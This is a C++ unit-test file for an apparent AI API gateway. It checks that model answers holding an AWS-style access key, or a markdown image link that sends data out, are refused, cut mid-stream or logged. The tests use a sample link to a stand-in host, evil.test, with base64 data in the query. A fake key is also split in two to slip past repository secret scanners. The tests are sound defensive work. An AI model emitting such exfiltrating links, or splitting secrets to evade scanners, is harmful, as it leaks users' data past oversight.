// Answers on a route with a content policy: what is refused, flagged or observed of them, what the
// caller gets instead, what it costs, and what is on record.
#include <gtest/gtest.h>
#include <hs/hs.h>

#include <cstdlib>
#include <string>

#include "pipeline/settings_test.h"

namespace tollgate::pipeline::testing {
namespace {

std::string settings_of(std::string_view content) {
  std::string text(kSettings);
  for (const std::string_view name : {"name: chat\n", "name: messages\n"}) {
    const std::size_t at = text.find(name) + name.size();
    text.insert(at, "    content: " + std::string(content) + "\n");
  }
  // What is read of calls is what these tests are about, not which may be made.
  constexpr std::string_view kTools = "tools: { allow: [get_weather] }";
  text.replace(text.find(kTools), kTools.size(), "tools: { mode: observe }");
  text.insert(text.find("name: messages\n") + 15, "    tools: { mode: observe }\n");
  return text;
}

// In two parts, so that no scanner of repositories takes it for one.
const std::string kKey = std::string("AKIA") + "Q3EGRS5WXNB7TC2V";

class AnswerTest : public PipelineTest {
 protected:
  explicit AnswerTest(std::string_view content = "{ response: [secrets] }")
      : PipelineTest(settings_of(content)) {}

  void answers(std::string_view text, std::string_view usage = reported(9, 4)) {
    world.upstreams.script.pieces = {whole(usage, text)};
  }
  // `{…}` of one finding in the outcome.
  static std::string found(std::string_view where, std::string_view action) {
    return R"("content":[{"rule":"secrets.aws_access_key","where":")" + std::string(where) +
           R"(","action":")" + std::string(action) + R"("}])";
  }
  void expect_told_nobody(const Caller& caller) const {
    EXPECT_EQ(caller.text.find(kKey), std::string::npos);
    for (const Recorded& record : world.trail.records)
      EXPECT_EQ(record.written.find(kKey), std::string::npos);
  }
};

TEST_F(AnswerTest, IsRefusedWhereItHoldsASecretAndIsPaidFor) {
  answers("the key is " + kKey + ".");
  const auto caller = world.serve(ask(std::string(kHello)));
  EXPECT_EQ(caller->status, 400);
  EXPECT_EQ(caller->header("x-tollgate-reason"), "content_refused");
  EXPECT_EQ(caller->header("x-tollgate-rule"), "routes.chat.content");
  for (const char* part : {R"("code":"content_policy_violation")", "secrets.aws_access_key",
                           "choices[0].message.content", "answer"}) {
    EXPECT_NE(caller->text.find(part), std::string::npos) << caller->text;
  }
  EXPECT_EQ(last().outcome, audit::Outcome::kRefused);
  EXPECT_EQ(last().code, "content_refused");
  EXPECT_NE(last().written.find(found("choices[0].message.content:11+20", "refuse")),
            std::string::npos)
      << last().written;
  EXPECT_EQ(settled().used.input, 9);
  EXPECT_EQ(settled().used.output, 4);
  EXPECT_EQ(last().source, kProvider);
  expect_told_nobody(*caller);
  expect_clean_books();
}

TEST_F(AnswerTest, PassesWhereItHoldsNone) {
  const auto caller = world.serve(ask(std::string(kHello)));
  EXPECT_EQ(caller->status, 200);
  EXPECT_EQ(caller->text, kAnswer);
  EXPECT_EQ(last().written.find("\"content\""), std::string::npos);
  expect_clean_books();
}

// A request is not held to what its answer is held to.
TEST_F(AnswerTest, DoesNotHoldTheRequestToIt) {
  const auto caller = world.serve(
      ask(R"({"model":"small","messages":[{"role":"user","content":")" + kKey + R"("}]})"));
  EXPECT_EQ(caller->status, 200) << caller->text;
}

TEST_F(AnswerTest, IsInspectedInAllItsParts) {
  const struct {
    std::string_view message;  // KEY stands for it.
    std::string_view where;
  } rows[] = {
      {R"({"role":"assistant","content":null,"refusal":"no: KEY"})", "message.refusal:4+20"},
      {R"({"content":"x","reasoning_content":"KEY"})", "message.reasoning_content:0+20"},
      {R"({"content":[{"type":"text","text":"KEY"}]})", "message.content[0].text:0+20"},
      {R"({"tool_calls":[{"id":"KEY","function":{"name":"f","arguments":"{}"}}]})",
       "message.tool_calls[0].id:0+20"},
      {R"({"tool_calls":[{"id":"1","function":{"name":"KEY","arguments":"{}"}}]})",
       "message.tool_calls[0].function.name:0+20"},
      {R"({"tool_calls":[{"function":{"name":"f","arguments":"{\"k\":\"a\\nKEY\"}"}}]})",
       "message.tool_calls[0].function.arguments:"},
      {R"({"content":"x","audio":{"transcript":"KEY"}})", "message.audio.transcript:0+20"},
      {R"({"content":"x","new_field":{"KEY":1}})", "message.new_field:0+20"},
      {R"({"content":"x","content":"KEY"})", "message.content:0+20"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.message);
    std::string message(row.message);
    message.replace(message.find("KEY"), 3, kKey);
    world.upstreams.script.pieces = {R"({"choices":[{"message":{"content":"x"}},{"message":)" +
                                     message + R"(}],"usage":)" + reported(9, 4) + "}"};
    const auto caller = world.serve(
        ask(R"({"model":"small","n":2,"messages":[{"role":"user","content":"Hello there"}]})"));
    EXPECT_EQ(caller->status, 400) << caller->text;
    EXPECT_NE(last().written.find("\"where\":\"choices[1]." + std::string(row.where)),
              std::string::npos)
        << last().written;
  }
  expect_clean_books();
}

TEST_F(AnswerTest, IsRefusedInTheDialectOfTheCaller) {
  world.upstreams.script.pieces = {
      R"({"id":"m","type":"message","role":"assistant","model":"claude-opus","content":[{"type":"text","text":"x"},{"type":"tool_use","id":"t","name":"f","input":{"aws":{"k":")" +
      kKey + R"("}}}],"stop_reason":"tool_use","usage":{"input_tokens":9,"output_tokens":4}})"};
  const auto caller = world.serve(ask(std::string(kClaude), "/v1/messages"));
  EXPECT_EQ(caller->status, 400);
  EXPECT_NE(caller->text.find(R"("type":"invalid_request_error")"), std::string::npos);
  EXPECT_NE(last().written.find("\"where\":\"content[1].input:"), std::string::npos)
      << last().written;
  expect_told_nobody(*caller);
  expect_clean_books();
}

TEST_F(AnswerTest, IsReadInItsNormalForm) {
  std::string split;
  for (const char c : kKey) split.append(1, c).append("\u200b");
  answers(split);
  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 400);
}

TEST_F(AnswerTest, DoesNotPassWhereItCannotBeParsed) {
  for (const std::string& body :
       {std::string("{"), std::string(R"({"choices":[{"message":{"content":"\ud800"}}]})")}) {
    world.upstreams.script.pieces = {body};
    const auto caller = world.serve(ask(std::string(kHello)));
    EXPECT_EQ(caller->status, 502) << caller->text;
  }
  expect_clean_books();
}

void* no_memory(std::size_t) { return nullptr; }

TEST_F(AnswerTest, DoesNotPassWhereItCouldNotBeInspected) {
  ASSERT_EQ(hs_set_scratch_allocator(no_memory, std::free), HS_SUCCESS);
  const auto caller = world.serve(ask(std::string(kHello)));
  ASSERT_EQ(hs_set_scratch_allocator(nullptr, nullptr), HS_SUCCESS);
  EXPECT_EQ(caller->status, 400);
  EXPECT_NE(caller->text.find("could not be inspected"), std::string::npos) << caller->text;
  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 200);
}

// A provider's words about a request are no answer, and pass by the same rules.
TEST_F(AnswerTest, IsToldInOtherWordsWhereAnErrorHoldsASecret) {
  world.upstreams.script.status = 400;
  world.upstreams.script.pieces = {R"({"error":{"message":"cannot read )" + kKey +
                                   R"(","type":"invalid_request_error"}})"};
  const auto caller = world.serve(ask(std::string(kHello)));
  EXPECT_EQ(caller->status, 400);
  EXPECT_NE(caller->text.find("refused the request with status 400"), std::string::npos);
  expect_told_nobody(*caller);
}

class StreamedAnswerTest : public AnswerTest {
 protected:
  using AnswerTest::AnswerTest;
  static std::string ending() {
    std::string events = kFinish;
    return events.append(usage_chunk(9, 4)).append(kDone);
  }
  // Each of them an event; `then` follows them all.
  std::unique_ptr<Caller> streamed(const std::vector<std::string>& texts,
                                   const std::string& then = ending()) {
    world.upstreams.script.content_type = "text/event-stream";
    world.upstreams.script.pieces.clear();
    for (const std::string& text : texts) world.upstreams.script.pieces.push_back(chunk(text));
    world.upstreams.script.pieces.push_back(then);
    return world.serve(ask(std::string(kHelloStreamed)));
  }
  static std::vector<std::string> cut(std::string_view text, std::size_t step) {
    std::vector<std::string> pieces;
    for (std::size_t at = 0; at < text.size(); at += step) {
      pieces.emplace_back(text.substr(at, step));
    }
    return pieces;
  }
  // What a caller's SDK would have joined of it.
  static std::string content_of(const Caller& caller) {
    dialects::StreamReader reader;
    reader.start(dialects::Surface::kChatCompletions, true);
    Joined joined;
    std::string out;
    EXPECT_TRUE(reader.feed(caller.text, out, joined).has_value()) << caller.text;
    return joined.all;
  }
  struct Joined final : dialects::OutputSink {
    void text(std::int64_t, std::string_view piece) override { all += piece; }
    std::string all;
  };
};

TEST_F(StreamedAnswerTest, PassesAsItCameWhereItHoldsNone) {
  const auto caller = streamed({"the answer", " is", " simple"});
  EXPECT_EQ(caller->status, 200);
  EXPECT_EQ(caller->text, chunk("the answer") + chunk(" is") + chunk(" simple") + kFinish + kDone);
  EXPECT_TRUE(caller->complete());
  EXPECT_EQ(last().written.find("\"content\""), std::string::npos);
  EXPECT_EQ(last().outcome, audit::Outcome::kAllowed);
  expect_clean_books();
}

TEST_F(StreamedAnswerTest, IsEndedCleanlyBeforeAnyOfTheSecretIsOut) {
  const std::string text = "so the key is " + kKey + " and that is all";
  for (std::size_t step = 1; step <= text.size(); ++step) {
    SCOPED_TRACE(step);
    world.ledger.settled.clear();
    world.ledger.held = 0;
    const auto caller = streamed(cut(text, step));
    expect_told_nobody(*caller);
    const std::string seen = content_of(*caller);
    EXPECT_TRUE(text.starts_with(seen)) << seen;
    EXPECT_LE(seen.size(), text.find(kKey)) << seen;
    if (step > text.find(kKey)) {
      EXPECT_EQ(caller->status, 400);  // Nothing had gone out.
      EXPECT_EQ(last().outcome, audit::Outcome::kRefused);
    } else {
      EXPECT_EQ(caller->status, 200);
      EXPECT_GT(seen.size() + step + 3, text.find(kKey)) << "all before it";
      EXPECT_NE(caller->text.find(R"("finish_reason":"content_filter")"), std::string::npos);
      EXPECT_TRUE(caller->text.ends_with("data: [DONE]\n\n"));
      EXPECT_TRUE(caller->complete());
      EXPECT_EQ(last().outcome, audit::Outcome::kCut);
    }
    EXPECT_EQ(last().code, "content_refused");
    EXPECT_NE(last().written.find(found("choices[0].message.content:14+20", "refuse")),
              std::string::npos)
        << last().written;
    EXPECT_GT(settled().used.output, 0);
    expect_clean_books();
  }
}

TEST_F(StreamedAnswerTest, HasTheVerdictOfTheWhole) {
  const std::string almost = kKey.substr(0, kKey.size() - 1);
  for (const std::string& text : {"x " + almost, almost + ". x", "x" + kKey, kKey + "3"}) {
    SCOPED_TRACE(text);
    answers(text);
    world.upstreams.script.content_type = "application/json";
    EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 200);
    for (std::size_t step = 1; step < 9; ++step) {
      const auto caller = streamed(cut(text, step));
      EXPECT_EQ(content_of(*caller), text);
      EXPECT_EQ(last().outcome, audit::Outcome::kAllowed);
    }
  }
}

TEST_F(StreamedAnswerTest, IsFoundWhereTheStreamEndsWithIt) {
  for (const std::string& end : {kFinish + kDone, kDone, std::string()}) {
    SCOPED_TRACE(end);
    if (end.empty()) world.upstreams.script.fault = FaultKind::kBroken;
    const auto caller = streamed(cut("x " + kKey, 3), end);
    expect_told_nobody(*caller);
    EXPECT_EQ(last().code, "content_refused");
  }
}

TEST_F(StreamedAnswerTest, IsReadChoiceByChoiceAndCallByCall) {
  const auto call = [](int choice, int index, std::string_view arguments) {
    return R"(data: {"choices":[{"index":)" + std::to_string(choice) +
           R"(,"delta":{"tool_calls":[{"index":)" + std::to_string(index) +
           R"(,"function":{"arguments":")" + std::string(arguments) + "\"}}]}}]}\n\n";
  };
  world.upstreams.script.content_type = "text/event-stream";
  std::vector<std::string>& pieces = world.upstreams.script.pieces;
  const std::string_view key = kKey;
  // Between its two halves come others', which belong to other texts.
  pieces = {chunk("hello "),
            call(0, 0, "{\\\"k\\\": \\\""),
            call(0, 1, "{}"),
            call(0, 0, key.substr(0, 9)),
            call(0, 1, key.substr(9)),
            chunk("more "),
            call(1, 0, key.substr(9)),
            call(0, 0, key.substr(9)),
            call(0, 0, "\\\"}"),
            kFinish,
            kDone};
  const auto caller = world.serve(ask(
      R"({"model":"small","n":2,"stream":true,"messages":[{"role":"user","content":"Hello"}]})"));
  EXPECT_EQ(caller->status, 200);
  EXPECT_EQ(caller->text.find(key.substr(0, 9)), std::string::npos) << caller->text;
  EXPECT_EQ(caller->text.find("more"), std::string::npos) << "nothing overtakes what is held";
  EXPECT_NE(last().written.find(R"("where":"choices[0].message.tool_calls[0].function.arguments:)"),
            std::string::npos)
      << last().written;
  EXPECT_EQ(last().outcome, audit::Outcome::kCut);
  expect_clean_books();
}

// A chat does not say where a text ends: the next of the same choice does.
TEST_F(StreamedAnswerTest, DoesNotWaitForWhatHasEnded) {
  const auto delta = [](std::string_view json) {
    return R"(data: {"choices":[{"index":0,"delta":)" + std::string(json) + "}]}\n\n";
  };
  const auto call = [&](std::string_view rest) {
    return delta(R"({"tool_calls":[{"index":0,)" + std::string(rest) + "}]}");
  };
  world.upstreams.script.content_type = "text/event-stream";
  std::vector<std::string>& pieces = world.upstreams.script.pieces;
  pieces = {delta(R"({"reasoning_content":"it is 42"})"), delta(R"({"content":"So I"})"),
            call(R"("id":"t","type":"function","function":{"name":"get_weather","arguments":""})")};
  std::string expected;
  for (const std::string& piece : pieces) expected += piece;
  for (int i = 0; i < 40; ++i) {
    pieces.push_back(call(R"("function":{"arguments":"word "})"));
    if (i < 36) expected += pieces.back();
  }
  const std::string key(kKey);
  pieces.push_back(call(R"("function":{"arguments":")" + key.substr(0, 9) + R"("})"));
  pieces.push_back(call(R"("function":{"arguments":")" + key.substr(9) + R"( "})"));
  pieces.insert(pieces.end(), {kFinish, kDone});
  const auto caller = world.serve(ask(std::string(kHelloStreamed)));
  EXPECT_EQ(caller->status, 200);
  EXPECT_TRUE(caller->text.starts_with(expected)) << caller->text;
  expect_told_nobody(*caller);
  EXPECT_EQ(last().code, "content_refused");
}

// A text whose last word was let go is read on: what comes of it is out no more than it was.
TEST_F(StreamedAnswerTest, ReadsOnWhatIsGoneOnWith) {
  const auto delta = [](std::string_view field, std::string_view text) {
    return R"(data: {"choices":[{"index":0,"delta":{")" + std::string(field) + "\":\"" +
           std::string(text) + "\"}}]}\n\n";
  };
  world.upstreams.script.content_type = "text/event-stream";
  const std::string key(kKey);
  for (const bool is_split : {true, false}) {
    world.upstreams.script.pieces = {delta("content", is_split ? key.substr(0, 12) : "So I think")};
    for (int i = 0; i < 9; ++i) {
      world.upstreams.script.pieces.push_back(delta("reasoning_content", "word, "));
    }
    world.upstreams.script.pieces.push_back(delta("content", is_split ? key.substr(12) : " it is"));
    world.upstreams.script.pieces.push_back(kFinish + kDone);
    const auto caller = world.serve(ask(std::string(kHelloStreamed)));
    EXPECT_EQ(caller->text.find(key.substr(12)), std::string::npos);
    EXPECT_EQ(last().code, is_split ? "content_refused" : "");
    EXPECT_EQ(caller->text.ends_with(kFinish + kDone), !is_split);
    EXPECT_EQ(last().written.find("choices[0].message.content:0+20") == std::string::npos,
              !is_split);
  }
}

TEST_F(StreamedAnswerTest, EndsMessagesAsTheirDialectDoes) {
  world.upstreams.script.content_type = "text/event-stream";
  const auto delta = [](std::string_view json) {
    return event("content_block_delta",
                 R"({"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta",)"
                 R"("partial_json":")" +
                     std::string(json) + "\"}}");
  };
  world.upstreams.script.pieces = {
      claude_opening(9),
      event(
          "content_block_delta",
          R"({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Hi. "}})"),
      event("content_block_stop", R"({"type":"content_block_stop","index":0})"),
      event(
          "content_block_start",
          R"({"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t","name":"f","input":{}}})"),
      delta("{\\\"k\\\": \\\""),
      delta(kKey.substr(0, 7)),
      delta(kKey.substr(7)),
      delta("\\\"}"),
      event("content_block_stop", R"({"type":"content_block_stop","index":1})"),
      event("message_stop", R"({"type":"message_stop"})")};
  const auto caller = world.serve(ask(std::string(kClaudeStreamed), "/v1/messages"));
  EXPECT_EQ(caller->status, 200);
  expect_told_nobody(*caller);
  const std::size_t stop = caller->text.find(
      "event: content_block_stop\ndata: {\"type\":"
      "\"content_block_stop\",\"index\":1}");
  EXPECT_NE(stop, std::string::npos) << caller->text;
  EXPECT_GT(caller->text.find(R"("stop_reason":"refusal")"), stop);
  EXPECT_TRUE(caller->text.ends_with("{\"type\":\"message_stop\"}\n\n")) << caller->text;
  EXPECT_NE(last().written.find(R"("where":"content[1].input:)"), std::string::npos);
  expect_clean_books();
}

// What the caller has not seen is not ended either: the block that was held back with its text.
TEST_F(StreamedAnswerTest, EndsNoBlockThatItsCallerHasNotSeen) {
  world.upstreams.script.content_type = "text/event-stream";
  const auto text = [](int index, std::string_view words) {
    return event("content_block_delta",
                 R"({"type":"content_block_delta","index":)" + std::to_string(index) +
                     R"(,"delta":{"type":"text_delta","text":")" + std::string(words) + "\"}}");
  };
  world.upstreams.script.pieces = {
      claude_opening(9), text(0, "Hi. " + kKey.substr(0, 9)),
      event(
          "content_block_start",
          R"({"type":"content_block_start","index":1,"content_block":{"type":"text","text":""}})"),
      text(0, kKey.substr(9)), text(0, ".")};
  const auto caller = world.serve(ask(std::string(kClaudeStreamed), "/v1/messages"));
  EXPECT_NE(caller->text.find("\"content_block_stop\",\"index\":0}"), std::string::npos);
  EXPECT_EQ(caller->text.find("\"index\":1"), std::string::npos) << caller->text;
}

TEST_F(StreamedAnswerTest, IsHeldToTheCapAsWell) {
  std::vector<std::string> texts;
  for (int i = 0; i < 200; ++i) texts.emplace_back(" word");
  const auto caller = streamed(texts);
  EXPECT_NE(caller->text.find(R"("finish_reason":"length")"), std::string::npos);
  EXPECT_EQ(last().code, "output_cap_exceeded");
  EXPECT_EQ(content_of(*caller).size(), 5U * kCap);
  expect_clean_books();
}

TEST_F(StreamedAnswerTest, IsEndedWhereItNeedsMoreTextsAtOnceThanAreRead) {
  std::string many = R"(data: {"choices":[{"index":0,"delta":{"content":"Hi. "}}]})"
                     "\n\n";
  for (std::size_t i = 0; i < 600; ++i) {
    many += R"(data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":)" + std::to_string(i) +
            R"(,"function":{"arguments":"."}}]}}]})"
            "\n\n";
  }
  const auto caller = streamed({"x. "}, many);
  EXPECT_NE(caller->text.find(R"("finish_reason":"content_filter")"), std::string::npos);
  EXPECT_EQ(last().code, "content_refused");
  expect_clean_books();
}

TEST_F(StreamedAnswerTest, DoesNotGoOnBehindWhatItHasEndedWith) {
  const std::string_view key = kKey;
  const auto caller = streamed({"Hi. ", std::string(key.substr(0, 9))},
                               kFinish + chunk(key.substr(9)) + chunk(". ") + kDone);
  EXPECT_EQ(caller->text.find(key.substr(9)), std::string::npos);
  EXPECT_EQ(last().code, "content_refused");
}

class LinkedAnswerTest : public StreamedAnswerTest {
 protected:
  LinkedAnswerTest()
      : StreamedAnswerTest("{ response: [links], links: { allow: [docs.example.com] } }") {}
};

TEST_F(LinkedAnswerTest, IsEndedBeforeALinkThatCarriesDataOut) {
  const std::string text = "Here: ![x](https://evil.test/p.png?d=c2VjcmV0) and more.";
  const std::size_t at = text.find("https");
  answers(text);
  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 400);
  EXPECT_NE(last().written.find(R"({"rule":"links.image","where":"choices[0].message.content:)" +
                                std::to_string(at)),
            std::string::npos)
      << last().written;
  for (std::size_t step = 1; step < 9; ++step) {
    const auto caller = streamed(cut(text, step));
    const std::string seen = content_of(*caller);
    EXPECT_TRUE(text.starts_with(seen));
    EXPECT_LE(seen.size(), at);
    EXPECT_GT(seen.size() + step, at);
    EXPECT_NE(caller->text.find(R"("finish_reason":"content_filter")"), std::string::npos);
    EXPECT_EQ(last().code, "content_refused");
  }
}

TEST_F(LinkedAnswerTest, PassesWithLinksToHostsThatAreAllowed) {
  const std::string text = "See ![x](https://docs.example.com/p.png?d=1), and " + kKey;
  answers(text);
  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 200);
  EXPECT_EQ(content_of(*streamed(cut(text, 3))), text);
}

class FlaggedStreamTest : public StreamedAnswerTest {
 protected:
  FlaggedStreamTest() : StreamedAnswerTest("{ response: [secrets], on_match: flag }") {}
};

TEST_F(FlaggedStreamTest, HoldsNothingAndPutsItOnRecord) {
  const auto caller = streamed(cut("the key is " + kKey, 4));
  EXPECT_EQ(content_of(*caller), "the key is " + kKey);
  EXPECT_NE(last().written.find(found("choices[0].message.content:11+20", "flag")),
            std::string::npos)
      << last().written;
  EXPECT_EQ(last().outcome, audit::Outcome::kAllowed);
}

class ObservedStreamTest : public StreamedAnswerTest {
 protected:
  ObservedStreamTest() : StreamedAnswerTest("{ response: [secrets], mode: observe }") {}
};

TEST_F(ObservedStreamTest, TellsWhatItWouldHaveEnded) {
  const auto caller = streamed(cut("the key is " + kKey, 4));
  EXPECT_EQ(content_of(*caller), "the key is " + kKey);
  EXPECT_NE(last().written.find(found("choices[0].message.content:11+20", "observe")),
            std::string::npos)
      << last().written;
  EXPECT_EQ(last().observed, std::vector<std::string>{"routes.chat.content"});
}

class FlaggedAnswerTest : public AnswerTest {
 protected:
  FlaggedAnswerTest() : AnswerTest("{ response: [secrets], on_match: flag }") {}
};

TEST_F(FlaggedAnswerTest, OnlyPutsOnRecordWhatItFlags) {
  answers("the key is " + kKey);
  const auto caller = world.serve(ask(std::string(kHello)));
  EXPECT_EQ(caller->status, 200);
  EXPECT_NE(caller->text.find(kKey), std::string::npos);
  EXPECT_NE(last().written.find(found("choices[0].message.content:11+20", "flag")),
            std::string::npos)
      << last().written;
  EXPECT_TRUE(last().observed.empty());
}

class ObservedAnswerTest : public AnswerTest {
 protected:
  ObservedAnswerTest() : AnswerTest("{ request: [secrets], response: [secrets], mode: observe }") {}
};

TEST_F(ObservedAnswerTest, TellsWhatItWouldHaveRefused) {
  answers("the key is " + kKey);
  for (const std::string& asked : {std::string("Hello"), kKey}) {
    const auto caller = world.serve(
        ask(R"({"model":"small","messages":[{"role":"user","content":")" + asked + R"("}]})"));
    EXPECT_EQ(caller->status, 200);
    EXPECT_NE(last().written.find(found("choices[0].message.content:11+20", "observe")),
              std::string::npos)
        << last().written;
    EXPECT_EQ(last().observed, std::vector<std::string>{"routes.chat.content"});
  }
}

}  // namespace
}  // namespace tollgate::pipeline::testing
